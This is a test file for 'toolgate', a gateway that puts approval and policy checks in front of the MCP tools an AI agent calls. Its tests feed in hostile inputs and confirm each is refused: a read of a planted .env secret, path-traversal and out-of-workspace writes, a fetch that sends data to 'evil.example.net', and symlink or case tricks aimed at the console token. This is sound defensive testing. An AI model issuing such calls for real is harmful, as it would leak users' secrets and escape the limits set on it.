import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { afterEach, describe, expect, it } from 'vitest';
import { ROOT } from './fixtures/mcp/helpers.js';
import { gatewayAuth, runCli, startCli, type RunningCli } from './support/spawn-cli.js';

/**
 * The known attacks on upstream MCP tools, end to end: the built CLI
 * `toolgate serve`, the real MCP SDK client, the real
 * @modelcontextprotocol/server-filesystem upstream on a workspace holding
 * `.env` and the console's token file, and stand-ins for the Python fetch
 * and git reference servers. Each test checks the end effect: what came
 * back, what was written, what reached the upstream.
 */
const FILESYSTEM = join(ROOT, 'node_modules/@modelcontextprotocol/server-filesystem/dist/index.js');
const REFERENCE = join(ROOT, 'test/fixtures/mcp/reference-servers.mjs');
const SECRET = 'TOOLGATE_E2E_SECRET=hunter2-do-not-leak';
const TIMEOUT = 120_000;
/** A public address an operator allows, standing for a documentation site. */
const DOCS_ADDRESS = '93.184.215.14';

interface Served {
  readonly workspace: string;
  readonly client: Client;
  /** What reached the fetch and git stand-ins. */
  recorded(): { tool: string; args: Record<string, unknown> }[];
  pending(): Promise<{ id: string; toolName: string }[]>;
  decide(id: string, decision: 'once' | 'reject'): Promise<void>;
  call(name: string, args: Record<string, unknown>): Promise<{ isError?: boolean; content: unknown }>;
}

function workspaceWith(config: (workspace: string, log: string) => object): { workspace: string; log: string } {
  const workspace = realpathSync(mkdtempSync(join(tmpdir(), 'toolgate-upstream-')));
  const log = join(realpathSync(mkdtempSync(join(tmpdir(), 'toolgate-upstream-log-'))), 'calls.jsonl');
  appendFileSync(log, '');
  writeFileSync(join(workspace, '.env'), `${SECRET}\n`);
  writeFileSync(join(workspace, 'notes.md'), 'first\n');
  writeFileSync(join(workspace, 'toolgate.config.json'), JSON.stringify(config(workspace, log)));
  return { workspace, log };
}

const servers = (log: string, extra: Record<string, object> = {}) => ({
  fs: { command: process.execPath, args: [FILESYSTEM, '.'], ...extra.fs },
  web: { command: process.execPath, args: [REFERENCE, 'mcp-server-fetch', '--log', log] },
  git: { command: process.execPath, args: [REFERENCE, 'mcp-server-git', '--log', log] },
});

const text = (result: { content: unknown }): string => JSON.stringify(result.content);

describe('upstream MCP tools through toolgate serve', () => {
  let cli: RunningCli | undefined;
  let client: Client | undefined;
  afterEach(async () => {
    await client?.close();
    await cli?.stop();
    client = undefined;
    cli = undefined;
  });

  async function serve(config: (workspace: string, log: string) => object): Promise<Served> {
    const { workspace, log } = workspaceWith(config);
    cli = startCli(['--json', 'serve', '--http', '0'], workspace);
    const started = await cli.ready;
    // The start-up document names the run every call of this gateway is journaled under.
    expect(String(started.runId)).toMatch(/^serve-\d{4}-/);
    const consoleUrl = new URL(String(started.console));
    const token = consoleUrl.searchParams.get('token') ?? '';
    const api = (path: string, init: RequestInit = {}) =>
      fetch(new URL(path, consoleUrl), { ...init, headers: { 'x-toolgate-token': token, 'content-type': 'application/json' } }).then((response): Promise<unknown> => response.json());
    // A client that cannot elicit: every approval waits for a person in the console.
    const connected = new Client({ name: 'upstream-attacks', version: '1.0.0' });
    await connected.connect(new StreamableHTTPClientTransport(new URL(String(started.mcp)), gatewayAuth(started)));
    client = connected;
    return {
      workspace,
      client: connected,
      recorded: () =>
        readFileSync(log, 'utf8')
          .split('\n')
          .filter((line) => line.length > 0)
          .map((line) => JSON.parse(line) as { tool: string; args: Record<string, unknown> }),
      pending: async () => (await api('/api/approvals')) as { id: string; toolName: string }[],
      decide: async (id, decision) => {
        await api(`/api/approvals/${id}`, { method: 'POST', body: JSON.stringify({ decision }) });
      },
      call: (name, args) => connected.callTool({ name, arguments: args }) as Promise<{ isError?: boolean; content: unknown }>,
    };
  }

  /** Start a call that needs a person, wait until the console holds it, and check it has not answered. */
  async function heldForApproval(served: Served, name: string, args: Record<string, unknown>) {
    let settled = false;
    const result = served.call(name, args).finally(() => (settled = true));
    await expect.poll(async () => (await served.pending()).map((entry) => entry.toolName), { timeout: 30_000 }).toEqual([name]);
    expect(settled).toBe(false);
    const [entry] = await served.pending();
    return { result, id: entry?.id ?? '' };
  }

  it(
    'ask: an upstream read of .env waits for a person and returns nothing when refused; a path outside the workspace, an unlisted domain and mcp_call are refused at once',
    async () => {
      const served = await serve((_workspace, log) => ({ scope: 'workspace-write', mode: 'ask', servers: servers(log), policy: { allowedDomains: ['docs.example.com', DOCS_ADDRESS] } }));

      const read = await heldForApproval(served, 'mcp_fs_read_text_file', { path: '.env' });
      await served.decide(read.id, 'reject');
      const refused = await read.result;
      expect(refused.isError).toBe(true);
      expect(text(refused)).not.toContain('hunter2');

      // Governed, and the approval is what lets it run: approved, the same kind of read answers.
      const notes = await heldForApproval(served, 'mcp_fs_read_text_file', { path: 'notes.md' });
      await served.decide(notes.id, 'once');
      expect(text(await notes.result)).toContain('first');

      const outside = join(realpathSync(mkdtempSync(join(tmpdir(), 'toolgate-outside-'))), 'planted.txt');
      const escape = await served.call('mcp_fs_write_file', { path: outside, content: 'planted' });
      expect(escape.isError).toBe(true);
      expect(text(escape)).toContain('outside the allowed filesystem scope');
      const climb = await served.call('mcp_fs_write_file', { path: '../planted.txt', content: 'planted' });
      expect(climb.isError).toBe(true);
      expect(existsSync(outside)).toBe(false);
      expect(existsSync(join(served.workspace, '..', 'planted.txt'))).toBe(false);

      const evil = await served.call('mcp_web_fetch', { url: 'https://evil.example.net/?q=secrets' });
      expect(evil.isError).toBe(true);
      expect(text(evil)).toContain('not in the allowed domains');
      const plain = await served.call('mcp_web_fetch', { url: 'http://docs.example.com/' });
      expect(plain.isError).toBe(true);

      // The same read, spelled as mcp_call, does not dodge the targets.
      const spelled = await served.call('mcp_call', { server: 'fs', tool: 'read_text_file', arguments: { path: '.env' } });
      expect(spelled.isError).toBe(true);
      expect(text(spelled)).toContain('only when it is called as mcp_fs_read_text_file');
      expect(text(spelled)).not.toContain('hunter2');

      const repo = await served.call('mcp_git_git_status', { repo_path: '/' });
      expect(repo.isError).toBe(true);

      expect(await served.pending()).toEqual([]);
      // Nothing refused reached an upstream; the allowed domain is held for a person like any governed call.
      expect(served.recorded()).toEqual([]);
      // A public address, not a name: the tests may run without a name server, and a name the gateway cannot resolve is refused.
      const docs = await heldForApproval(served, 'mcp_web_fetch', { url: `https://${DOCS_ADDRESS}/guide` });
      await served.decide(docs.id, 'once');
      expect(text(await docs.result)).toContain(`Contents of https://${DOCS_ADDRESS}/guide`);
      expect(served.recorded()).toEqual([{ tool: 'fetch', args: { url: `https://${DOCS_ADDRESS}/guide` } }]);
    },
    TIMEOUT,
  );

  it(
    'an imported Read(./.env) deny refuses the upstream read at once, with the rule, however the path is spelled',
    async () => {
      const served = await serve((workspace, log) => {
        mkdirSync(join(workspace, '.claude'));
        writeFileSync(join(workspace, '.claude', 'settings.json'), JSON.stringify({ permissions: { deny: ['Read(./.env)'] } }));
        return { scope: 'workspace-write', mode: 'ask', servers: servers(log), policy: { imports: [{ from: 'claude', path: '.claude/settings.json' }] } };
      });
      for (const args of [{ path: '.env' }, { path: join(served.workspace, '.env') }, { path: 'notes/../.env' }]) {
        const result = await served.call('mcp_fs_read_text_file', args);
        expect(result.isError, JSON.stringify(args)).toBe(true);
        expect(text(result)).toContain('was refused by policy rule');
        expect(text(result)).not.toContain('hunter2');
      }
      const many = await served.call('mcp_fs_read_multiple_files', { paths: ['notes.md', '.env'] });
      expect(many.isError).toBe(true);
      expect(text(many)).not.toContain('hunter2');
      // An edit answers with a diff of the file: a Read deny covers it too.
      const edit = await served.call('mcp_fs_edit_file', { path: '.env', edits: [{ oldText: 'TOOLGATE', newText: 'TOOLGATE' }], dryRun: true });
      expect(edit.isError).toBe(true);
      expect(text(edit)).not.toContain('hunter2');
      expect(await served.pending()).toEqual([]);
    },
    TIMEOUT,
  );

  it(
    'plan: an upstream write_file does not run',
    async () => {
      const served = await serve((_workspace, log) => ({ scope: 'workspace-write', mode: 'plan', servers: servers(log) }));
      const write = await served.call('mcp_fs_write_file', { path: 'planned.txt', content: 'should not exist' });
      expect(write.isError).toBe(true);
      expect(text(write)).toContain('plan mode');
      expect(existsSync(join(served.workspace, 'planned.txt'))).toBe(false);
      const commit = await served.call('mcp_git_git_commit', { repo_path: '.', message: 'planned' });
      expect(commit.isError).toBe(true);
      expect(served.recorded()).toEqual([]);
    },
    TIMEOUT,
  );

  // The gateway's own files are refused by the host's resolver whatever a person approves: upstream tools with
  // path targets go through it as the built-ins do.
  it(
    "never returns the console's token file, and asks no one",
    async () => {
      const served = await serve((_workspace, log) => ({ scope: 'workspace-write', mode: 'ask', servers: servers(log) }));
      const token = readFileSync(join(served.workspace, '.toolgate', 'console.json'), 'utf8');
      const url = (JSON.parse(token) as { url: string }).url;
      // No person is asked to approve what no approval can open: refused at once, as spelled, in another case, through a link.
      symlinkSync('.toolgate', join(served.workspace, 'state'));
      for (const path of ['.toolgate/console.json', '.TOOLGATE/console.json', 'notes/../.toolgate/console.json', 'state/console.json']) {
        const result = await served.call('mcp_fs_read_text_file', { path });
        expect(result.isError, path).toBe(true);
        expect(text(result), path).toContain('protected');
        expect(text(result), path).not.toContain(url);
      }
      expect(await served.pending()).toEqual([]);
    },
    TIMEOUT,
  );

  it(
    'toolgate tools says what is governed and why, and what each upstream tool is judged by',
    async () => {
      const { workspace } = workspaceWith((_workspace, log) => ({
        servers: { ...servers(log, { fs: { trust: 'annotations', tools: { get_file_info: { governed: true } } } }), fx: { command: process.execPath, args: [join(ROOT, 'test/fixtures/mcp/upstream-server.mjs')] } },
        console: { enabled: false },
      }));
      const table = await runCli(['tools'], workspace);
      expect(table.code).toBe(0);
      const row = (name: string): string => table.stdout.split('\n').find((line) => line.startsWith(`${name} `)) ?? '';
      expect(row('mcp_fs_read_text_file')).toMatch(/no \(trusted, read-only annotation\)\s+read path=\/path/);
      expect(row('mcp_fs_write_file')).toMatch(/yes \(not read-only\)\s+write path=\/path/);
      expect(row('mcp_fs_move_file')).toMatch(/yes \(not read-only\)\s+write paths=\/source,\/destination/);
      expect(row('mcp_fs_get_file_info')).toMatch(/yes \(override\)\s+read path=\/path/);
      expect(row('mcp_fs_list_allowed_directories')).toMatch(/no \(trusted, read-only annotation\)\s+none/);
      expect(row('mcp_web_fetch')).toMatch(/yes \(untrusted server\)\s+url=\/url/);
      expect(row('mcp_git_git_commit')).toMatch(/yes \(untrusted server\)\s+write path=\/repo_path/);
      expect(row('mcp_fx_echo')).toMatch(/yes \(untrusted server\)\s+none/);
      expect(row('read_file')).toMatch(/\bno\b/);
      const json = JSON.parse((await runCli(['--json', 'tools'], workspace)).stdout) as { name: string; governed: boolean; governance?: { reason: string; targetsFrom?: string } }[];
      expect(json.find((tool) => tool.name === 'mcp_web_fetch')).toMatchObject({ governed: true, governance: { reason: 'untrusted server', targetsFrom: 'shipped' } });
      expect(json.find((tool) => tool.name === 'read_file')?.governance).toBeUndefined();
    },
    TIMEOUT,
  );

  it(
    'refuses a configuration that would let a write go ungoverned, naming the key',
    async () => {
      const { workspace } = workspaceWith((_workspace, log) => ({ servers: servers(log, { fs: { tools: { write_file: { governed: false } } } }), console: { enabled: false } }));
      const result = await runCli(['tools'], workspace);
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('servers.fs.tools.write_file.governed');
    },
    TIMEOUT,
  );

  it(
    'refuses a configuration whose targets would drop the path toolgate knows server-filesystem reads, naming the key',
    async () => {
      const { workspace } = workspaceWith((_workspace, log) => ({ servers: { ...servers(log), fs: { ...servers(log).fs, trust: 'annotations', targets: { read_text_file: {} } } }, console: { enabled: false } }));
      const result = await runCli(['tools'], workspace);
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('servers.fs.targets.read_text_file" drops the path target');
    },
    TIMEOUT,
  );
});
